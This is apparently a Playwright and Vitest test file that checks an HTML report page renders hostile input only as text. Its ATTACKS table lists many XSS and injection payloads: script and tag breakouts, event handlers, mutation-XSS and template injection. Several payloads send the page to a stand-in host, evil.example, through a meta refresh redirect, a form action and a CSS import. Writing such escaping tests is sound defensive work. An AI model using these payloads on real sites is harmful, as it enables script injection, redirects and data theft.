import type { Browser, Page } from 'playwright-core'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { reportSchema, type Report } from '../../src/report/report.ts'
import { HOSTILE, hostileReport } from '../report/hostile-report.ts'
import { mixed, severalBinaries } from '../report/sample-report.ts'
import { openPage, startBrowser } from './open-page.ts'
import { comparedReport, withFacts } from './sample-page.ts'

/** Each would set `window.pwned`, ask for something, or leave its element, where text were taken for markup. */
const ATTACKS: Readonly<Record<string, string>> = {
  script: '<script>window.pwned=1</script>',
  'end of the script': '</script><script>window.pwned=1</script>',
  'end of the style': '</style><script>window.pwned=1</script>',
  'end of the title': '</title><script>window.pwned=1</script>',
  'end of pre': '\n</pre></td></table><script>window.pwned=1</script>',
  handler: '<img src=x onerror=window.pwned=1><svg onload=window.pwned=1><body onload=window.pwned=1>',
  'double quote': '"><img src=x onerror=window.pwned=1> " autofocus onfocus="window.pwned=1" x="',
  'single quote': "'><img src=x onerror=window.pwned=1> ' autofocus onfocus='window.pwned=1' x='",
  'no quote': ' onmouseover=window.pwned=1 style=position:fixed;inset:0 ',
  backtick: '`><img src=`x` onerror=`window.pwned=1`> `<b onclick=window.pwned=1>`',
  address: 'javascript:window.pwned=1 data:text/html,<script>window.pwned=1</script>',
  comment: '<!--><script>window.pwned=1</script--> <!-- --!><img src=x onerror=window.pwned=1>',
  CDATA: '<![CDATA[><script>window.pwned=1</script>]]>',
  frames:
    '<iframe srcdoc="<script>parent.pwned=1</script>"></iframe><object data="data:text/html,x"></object><embed src=x>',
  'meta and base': '<meta http-equiv=refresh content="0;url=https://evil.example/"><base href="https://evil.example/">',
  form: '<form action="https://evil.example"><input name=words><button name=open>x</button></form>',
  clobbering: '<a id=controls></a><output id=shown></output><a name=controls href=x>x</a>',
  entities: '&lt;script&gt;window.pwned=1&lt;/script&gt; &#60;img src=x onerror=window.pwned=1&#62; &quot; &#34;',
  'mutation, math': '<math><mtext><table><mglyph><style><img src=x onerror=window.pwned=1>',
  'mutation, noscript': '<noscript><p title="</noscript><img src=x onerror=window.pwned=1>">',
  template: '${window.pwned=1} {{constructor.constructor("window.pwned=1")()}} <%= window.pwned=1 %>',
  'null and breaks': '<scr\0ipt>window.pwned=1</scr\0ipt>\u2028<img\fsrc=x\vonerror=window.pwned=1>\r\n',
  'keys of objects': '__proto__ constructor toString hasOwnProperty',
  selector: '#cell-1"] , * { } </style> @import url(https://evil.example/x.css);',
}

const TOGETHER = { 'all of it': Object.values(ATTACKS).join(' ') }
const REPORTS = [
  ['mixed', withFacts(mixed()), { ...HOSTILE, ...ATTACKS, ...TOGETHER }],
  ['severalBinaries', severalBinaries(), TOGETHER],
  ['compared', comparedReport(), TOGETHER],
] as const

let browser: Browser
beforeAll(async () => {
  browser = await startBrowser()
})
afterAll(async () => {
  await browser.close()
})

/** In every text, and as names of facts, versions, symbols and settings. */
function attacked(report: Report, text: (index: number) => string): Report {
  const full = hostileReport(report, text)
  const cells = full.cells.map((cell) => ({
    ...cell,
    facts: cell.facts && { ...cell.facts, [text(9999)]: text(9998) },
  }))
  return reportSchema.parse({ ...full, cells })
}

/** Elements and their attributes in order; `code` is left out, since backticks in a sentence make it. */
async function skeleton(page: Page): Promise<string> {
  return await page.evaluate<string>(`[...document.querySelectorAll('*')]
    .filter((element) => element.localName !== 'code')
    .map((element) => element.localName + '[' + element.getAttributeNames() + ']').join(' ')`)
}

const FOREIGN = `[...document.querySelectorAll('*')].filter((element) =>
  /^(iframe|object|embed|img|base|link|math|template|noscript)$/.test(element.localName) ||
  element.getAttributeNames().some((name) => /^(on|style$|src$|srcdoc$|action$)/.test(name)) ||
  (element.hasAttribute('href') && !/^#[a-z]+(-\\d+)?$/.test(element.getAttribute('href')))
).map((element) => element.outerHTML.slice(0, 200))`

describe.each(REPORTS)('%s', (_name, report, corpus) => {
  let harmless: string
  beforeAll(async () => {
    await using opened = await openPage(
      browser,
      attacked(report, (index) => `word${index}`),
    )
    harmless = await skeleton(opened.page)
  })

  test.each(Object.entries<string>(corpus))('%s in every field is text and nothing else', async (_kind, text) => {
    await using opened = await openPage(
      browser,
      attacked(report, (index) => `${text}${index}`),
    )
    const { page } = opened
    await page.getByRole('button', { name: 'Open all' }).click()
    await page.getByRole('button', { name: 'Close all' }).click()
    expect(await page.evaluate('window.pwned')).toBeUndefined()
    expect(opened.trouble).toEqual([])
    expect(opened.requests).toEqual([opened.url])
    expect(await page.evaluate(FOREIGN)).toEqual([])
    expect(await page.evaluate('document.scripts.length')).toBe(1)
    expect(await skeleton(page)).toBe(harmless)
  })
})
